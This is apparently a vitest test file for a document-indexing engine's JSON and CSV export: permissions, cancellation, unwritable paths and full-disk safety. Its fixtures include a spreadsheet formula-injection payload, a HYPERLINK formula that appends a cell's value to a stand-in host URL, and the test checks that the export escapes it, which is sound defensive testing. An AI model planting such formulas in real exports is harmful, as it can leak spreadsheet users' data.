/** The index written out, over a real engine: complete, readable by others, whole or not at all. */
import { parse } from 'csv-parse/sync';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import type { ExportEvent } from '../shared/contract/export.ts';
import type { Desk } from '../core/engine/desk.ts';
import { openEngine, type RunningEngine } from './engine-host.ts';
import { forkHelper } from './fork.ts';
import { createNodeDesk } from './node-desk.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 90_000 });

const long = Array.from({ length: 3_000 }, (_, line) => `Line ${line}: "quoted", 𝄞 and otters.`).join('\n');
const formula = '=HYPERLINK("http://example.test/"&A1)';

let scratch: string;
let chosen: string | null;
let running: RunningEngine;

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'trove-export-'));
  const documents = join(scratch, 'documents');
  mkdirSync(documents);
  writeFileSync(join(documents, 'long.txt'), long);
  writeFileSync(join(documents, 'sum.txt'), `${formula}\n`);
  writeFileSync(join(documents, 'Grüße, "alle".md'), '# =1+1\n\nOtters swim.\n');
  writeFileSync(join(documents, 'empty.txt'), '');
  for (let at = 0; at < 600; at += 1) writeFileSync(join(documents, `${at}.tmp`), '');
  const desk: Desk = { ...createNodeDesk(), pickSaveFile: async () => chosen };
  running = await openEngine({
    dataFolder: join(scratch, 'data'),
    version: 'test',
    spawn: forkHelper,
    desk,
  });
  await running.engine.start();
  await running.engine.add(documents);
  await running.engine.idle();
});

afterAll(async () => {
  await running.close();
  rmSync(scratch, { recursive: true });
});

async function save(format: 'json' | 'csv', text: boolean, signal?: AbortSignal): Promise<ExportEvent[]> {
  const events: ExportEvent[] = [];
  for await (const event of running.engine.exporter.save({ format, text }, signal)) events.push(event);
  return events;
}

type Exported = Record<string, unknown> & { path: string };

test('JSON has every file with state, reason and the whole text', async () => {
  chosen = join(scratch, 'all.json');
  const events = await save('json', true);
  const { files: total } = await running.engine.status();
  expect(events.at(-1)).toMatchObject({ type: 'done', path: chosen, files: total.total });
  const written = JSON.parse(readFileSync(chosen, 'utf8')) as { folders: string[]; files: Exported[] };
  expect(written).toMatchObject({
    format: 'trove-export',
    version: 1,
    folders: [join(scratch, 'documents')],
  });
  expect(written.files).toHaveLength(total.total);
  const byName = new Map(written.files.map((file) => [basename(file.path), file]));
  expect(byName.get('long.txt')).toMatchObject({
    state: 'indexed',
    code: 'indexed',
    reason: null,
    text: long,
  });
  expect(byName.get('long.txt')?.['sha256']).toMatch(/^[0-9a-f]{64}$/);
  expect(byName.get('empty.txt')).toMatchObject({
    state: 'skipped',
    code: 'no-text',
    reason: 'There is no text in it. (The file is empty.)',
    text: null,
  });
  expect(byName.get('7.tmp')).toMatchObject({ state: 'skipped' });
  // Nobody else of this machine reads what was read.
  expect(statSync(chosen).mode & 0o777).toBe(0o600);
});

test('CSV is read back by a parser, and holds no formula', async () => {
  chosen = join(scratch, 'all.csv');
  await save('csv', true);
  const rows = parse(readFileSync(chosen), { bom: true, columns: true }) as Exported[];
  const byName = new Map(rows.map((row) => [basename(row.path), row]));
  expect(byName.get('long.txt')?.['text']).toBe(long);
  expect(byName.get('sum.txt')?.['text']).toBe(`'${formula}\n`);
  expect(byName.get('Grüße, "alle".md')).toMatchObject({ title: "'=1+1", state: 'indexed' });
  expect(rows).toHaveLength((await running.engine.status()).files.total);
});

test('nothing is written when no place is chosen, and nothing left behind when it is stopped', async () => {
  chosen = null;
  expect(await save('csv', false)).toEqual([{ type: 'done', path: null, files: 0, bytes: 0 }]);
  const folder = join(scratch, 'stopped');
  mkdirSync(folder);
  chosen = join(folder, 'x.json');
  await expect(save('json', true, AbortSignal.abort())).rejects.toMatchObject({ code: 'CANCELLED' });
  for await (const event of running.engine.exporter.save({ format: 'json', text: true })) {
    expect(event.type).toBe('progress');
    break;
  }
  await expect.poll(() => readdirSync(folder)).toEqual([]);
});

test('a place that cannot be written is said to be so', async () => {
  chosen = join(scratch, 'no such folder', 'x.csv');
  await expect(save('csv', false)).rejects.toMatchObject({ code: 'NOT_WRITABLE' });
  chosen = join(scratch, 'documents');
  await expect(save('csv', false)).rejects.toMatchObject({ code: 'NOT_WRITABLE' });
});

test('a full disk leaves the file that was there before', async (context) => {
  const folder = join(scratch, 'small');
  mkdirSync(folder);
  try {
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', folder], { stdio: 'ignore' });
  } catch {
    return context.skip('a small disk cannot be mounted here (needs root)');
  }
  try {
    chosen = join(folder, 'all.json');
    writeFileSync(chosen, 'the one of last week');
    await expect(save('json', true)).rejects.toMatchObject({ code: 'DISK_FULL' });
    expect(readdirSync(folder)).toEqual(['all.json']);
    expect(readFileSync(chosen, 'utf8')).toBe('the one of last week');
  } finally {
    execFileSync('umount', [folder]);
  }
});

test('what the person asked to be saved is saved as it is', async () => {
  chosen = join(scratch, 'groups.csv');
  expect(await running.engine.exporter.saveText('groups.csv', 'a,b\r\n')).toEqual({ path: chosen });
  expect(readFileSync(chosen, 'utf8')).toBe('a,b\r\n');
});
